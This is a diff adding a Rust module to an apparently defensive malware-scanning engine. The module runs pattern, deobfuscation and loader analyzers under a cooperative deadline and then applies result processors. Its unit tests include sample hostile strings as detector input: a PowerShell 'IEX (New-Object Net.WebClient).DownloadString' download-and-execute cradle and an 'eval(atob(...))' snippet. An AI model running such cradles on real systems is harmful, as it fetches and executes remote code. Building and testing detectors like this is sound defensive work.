@@ -0,0 +1,336 @@
+//! Whole-file Analysis with a Deadline
+//! Runs the engine's analyzers one after another and stops cooperatively
+//! once the deadline passes, keeping whatever the finished analyzers found
+//!
+//! Analyzers check the deadline at their own safe points. One that notices
+//! it has run out of time gives up and its output is discarded; analyzers
+//! that haven't started yet are skipped.
+
+use crate::bench::{self, BenchReport};
+use crate::deobfuscator::Deobfuscator;
+use crate::loaders::{detect_loaders_interruptible, SuspiciousBehavior};
+use crate::patterns::{PatternMatch, PatternMatcher};
+use std::time::{Duration, Instant};
+
+/// Point in time by which analysis should finish
+#[derive(Clone, Copy, Debug)]
+pub struct Deadline {
+    at: Option<Instant>,
+}
+
+impl Deadline {
+    pub fn at(instant: Instant) -> Self {
+        Self { at: Some(instant) }
+    }
+
+    pub fn after(timeout: Duration) -> Self {
+        Self::at(Instant::now() + timeout)
+    }
+
+    /// A deadline that never expires
+    pub fn never() -> Self {
+        Self { at: None }
+    }
+
+    pub fn expired(&self) -> bool {
+        self.at.is_some_and(|at| Instant::now() >= at)
+    }
+
+    /// Safe point for analyzers: bail out with `?` once time is up
+    pub fn check(&self) -> Result<(), DeadlineExceeded> {
+        if self.expired() {
+            return Err(DeadlineExceeded);
+        }
+        Ok(())
+    }
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct DeadlineExceeded;
+
+/// What an analyzer found
+#[derive(Clone, Debug, Default)]
+pub struct Findings {
+    pub pattern_matches: Vec<PatternMatch>,
+    pub deobfuscated: Option<String>,
+    pub suspicious_behaviors: Vec<SuspiciousBehavior>,
+}
+
+impl Findings {
+    fn merge(&mut self, other: Findings) {
+        self.pattern_matches.extend(other.pattern_matches);
+        self.suspicious_behaviors.extend(other.suspicious_behaviors);
+        if other.deobfuscated.is_some() {
+            self.deobfuscated = other.deobfuscated;
+        }
+    }
+}
+
+pub trait Analyzer {
+    fn name(&self) -> &'static str;
+
+    /// Analyze `data`, returning `DeadlineExceeded` if `deadline` passes first
+    fn run(&self, data: &[u8], deadline: &Deadline) -> Result<Findings, DeadlineExceeded>;
+
+    /// Analyze `data` repeatedly with no deadline and report throughput and latency
+    fn benchmark(&self, data: &[u8], iterations: usize) -> BenchReport {
+        bench::run(data, iterations, |buf| {
+            let _ = self.run(buf, &Deadline::never());
+        })
+    }
+}
+
+/// Combined findings of the analyzers that finished in time
+#[derive(Clone, Debug, Default)]
+pub struct AnalysisReport {
+    pub findings: Findings,
+    /// Analyzers whose findings are included, in run order
+    pub completed: Vec<&'static str>,
+    /// Analyzers that were interrupted or never started
+    pub skipped: Vec<&'static str>,
+    /// Set when the deadline cut analysis short
+    pub partial: bool,
+    /// Labels added by result processors
+    pub tags: Vec<String>,
+}
+
+/// Enriches or transforms a report once analysis is done, e.g. adding
+/// tags or suppressing known-benign findings
+pub trait ResultProcessor {
+    fn name(&self) -> &'static str;
+
+    fn process(&self, report: AnalysisReport) -> AnalysisReport;
+}
+
+pub struct PatternAnalyzer {
+    matcher: PatternMatcher,
+}
+
+impl PatternAnalyzer {
+    pub fn new() -> Self {
+        Self { matcher: PatternMatcher::new() }
+    }
+}
+
+impl Default for PatternAnalyzer {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl Analyzer for PatternAnalyzer {
+    fn name(&self) -> &'static str {
+        "patterns"
+    }
+
+    fn run(&self, data: &[u8], deadline: &Deadline) -> Result<Findings, DeadlineExceeded> {
+        let pattern_matches = self
+            .matcher
+            .scan_interruptible(data, || deadline.expired())
+            .ok_or(DeadlineExceeded)?;
+        Ok(Findings { pattern_matches, ..Findings::default() })
+    }
+}
+
+pub struct DeobfuscationAnalyzer;
+
+impl Analyzer for DeobfuscationAnalyzer {
+    fn name(&self) -> &'static str {
+        "deobfuscation"
+    }
+
+    fn run(&self, data: &[u8], deadline: &Deadline) -> Result<Findings, DeadlineExceeded> {
+        let text = String::from_utf8_lossy(data);
+        let result = Deobfuscator::new()
+            .deobfuscate_interruptible(&text, || deadline.expired())
+            .ok_or(DeadlineExceeded)?;
+
+        let deobfuscated = (result.confidence > 0.0).then_some(result.deobfuscated);
+        Ok(Findings { deobfuscated, ..Findings::default() })
+    }
+}
+
+/// Looks for reflective loader and manual-mapping stubs
+pub struct LoaderAnalyzer;
+
+impl Analyzer for LoaderAnalyzer {
+    fn name(&self) -> &'static str {
+        "loaders"
+    }
+
+    fn run(&self, data: &[u8], deadline: &Deadline) -> Result<Findings, DeadlineExceeded> {
+        let suspicious_behaviors = detect_loaders_interruptible(data, || deadline.expired()).ok_or(DeadlineExceeded)?;
+        Ok(Findings { suspicious_behaviors, ..Findings::default() })
+    }
+}
+
+/// The analyzers `analyze_with_deadline` runs, cheapest first
+pub fn default_analyzers() -> Vec<Box<dyn Analyzer>> {
+    vec![Box::new(PatternAnalyzer::new()), Box::new(DeobfuscationAnalyzer), Box::new(LoaderAnalyzer)]
+}
+
+/// Run every analyzer on `data`, returning a partial report if `deadline`
+/// passes before they all finish
+pub fn analyze_with_deadline(data: &[u8], deadline: Deadline) -> AnalysisReport {
+    run_analyzers(data, &default_analyzers(), deadline)
+}
+
+pub fn run_analyzers(data: &[u8], analyzers: &[Box<dyn Analyzer>], deadline: Deadline) -> AnalysisReport {
+    let mut report = AnalysisReport::default();
+
+    for analyzer in analyzers {
+        if report.partial || deadline.expired() {
+            report.partial = true;
+            report.skipped.push(analyzer.name());
+            continue;
+        }
+
+        match analyzer.run(data, &deadline) {
+            Ok(findings) => {
+                report.findings.merge(findings);
+                report.completed.push(analyzer.name());
+            }
+            Err(DeadlineExceeded) => {
+                report.partial = true;
+                report.skipped.push(analyzer.name());
+            }
+        }
+    }
+
+    report
+}
+
+/// Pass `report` through `processors` in order, each seeing the output of
+/// the one before
+pub fn run_processors(report: AnalysisReport, processors: &[Box<dyn ResultProcessor>]) -> AnalysisReport {
+    processors.iter().fold(report, |report, processor| processor.process(report))
+}
+
+/// `run_analyzers`, then `run_processors` on the result
+pub fn run_pipeline(
+    data: &[u8],
+    analyzers: &[Box<dyn Analyzer>],
+    processors: &[Box<dyn ResultProcessor>],
+    deadline: Deadline,
+) -> AnalysisReport {
+    run_processors(run_analyzers(data, analyzers, deadline), processors)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Keeps working until the deadline stops it
+    struct Endless;
+
+    impl Analyzer for Endless {
+        fn name(&self) -> &'static str {
+            "endless"
+        }
+
+        fn run(&self, _data: &[u8], deadline: &Deadline) -> Result<Findings, DeadlineExceeded> {
+            loop {
+                deadline.check()?;
+                std::thread::sleep(Duration::from_millis(1));
+            }
+        }
+    }
+
+    #[test]
+    fn test_deadline_returns_completed_findings() {
+        let data = b"powershell -enc SQBFAFgA; IEX (New-Object Net.WebClient).DownloadString('http://x')";
+        let analyzers: Vec<Box<dyn Analyzer>> = vec![
+            Box::new(PatternAnalyzer::new()),
+            Box::new(Endless),
+            Box::new(DeobfuscationAnalyzer),
+        ];
+
+        let report = run_analyzers(data, &analyzers, Deadline::after(Duration::from_millis(50)));
+
+        assert!(report.partial);
+        assert_eq!(report.completed, vec!["patterns"]);
+        assert_eq!(report.skipped, vec!["endless", "deobfuscation"]);
+        assert!(!report.findings.pattern_matches.is_empty());
+    }
+
+    #[test]
+    fn test_deobfuscation_stops_between_passes() {
+        let text = "eval(atob('YWxlcnQoMSk='))";
+        let checks = std::cell::Cell::new(0);
+        let result = Deobfuscator::new().deobfuscate_interruptible(text, || {
+            checks.set(checks.get() + 1);
+            checks.get() > 2
+        });
+
+        // Base64 and hex ran; the deadline passed before the unicode pass
+        assert!(result.is_none());
+        assert_eq!(checks.get(), 3);
+        assert!(Deobfuscator::new().deobfuscate_interruptible(text, || false).is_some());
+    }
+
+    #[test]
+    fn test_no_deadline_runs_everything() {
+        let report = analyze_with_deadline(b"eval(atob('YWxlcnQoMSk='))", Deadline::never());
+
+        assert!(!report.partial);
+        assert_eq!(report.completed, vec!["patterns", "deobfuscation", "loaders"]);
+        assert!(report.skipped.is_empty());
+    }
+
+    /// Tags the report with the name of every matched pattern
+    struct PatternTagger;
+
+    impl ResultProcessor for PatternTagger {
+        fn name(&self) -> &'static str {
+            "pattern-tagger"
+        }
+
+        fn process(&self, mut report: AnalysisReport) -> AnalysisReport {
+            for m in &report.findings.pattern_matches {
+                if !report.tags.contains(&m.pattern.name) {
+                    report.tags.push(m.pattern.name.clone());
+                }
+            }
+            report
+        }
+    }
+
+    /// Drops matches of a pattern known to be noise
+    struct Suppress(String);
+
+    impl ResultProcessor for Suppress {
+        fn name(&self) -> &'static str {
+            "suppress"
+        }
+
+        fn process(&self, mut report: AnalysisReport) -> AnalysisReport {
+            report.findings.pattern_matches.retain(|m| m.pattern.name != self.0);
+            report
+        }
+    }
+
+    #[test]
+    fn test_processors_apply_in_order() {
+        let data = b"eval(atob('SUVY')); IEX (New-Object Net.WebClient).DownloadString('http://x')";
+        let suppressed = "Eval with Base64".to_string();
+        let kept = "PowerShell Download String".to_string();
+        let analyzers: Vec<Box<dyn Analyzer>> = vec![Box::new(PatternAnalyzer::new())];
+
+        let processors: Vec<Box<dyn ResultProcessor>> =
+            vec![Box::new(PatternTagger), Box::new(Suppress(suppressed.clone()))];
+        let report = run_pipeline(data, &analyzers, &processors, Deadline::never());
+
+        // Tagged before it was suppressed, so the tag survives the finding
+        assert!(report.tags.contains(&suppressed));
+        assert!(report.tags.contains(&kept));
+        assert!(report.findings.pattern_matches.iter().all(|m| m.pattern.name != suppressed));
+        assert!(report.findings.pattern_matches.iter().any(|m| m.pattern.name == kept));
+
+        // The other way round, the suppressed pattern is never tagged
+        let reversed: Vec<Box<dyn ResultProcessor>> =
+            vec![Box::new(Suppress(suppressed.clone())), Box::new(PatternTagger)];
+        let report = run_pipeline(data, &analyzers, &reversed, Deadline::never());
+        assert!(!report.tags.contains(&suppressed));
+        assert!(report.tags.contains(&kept));
+    }
+}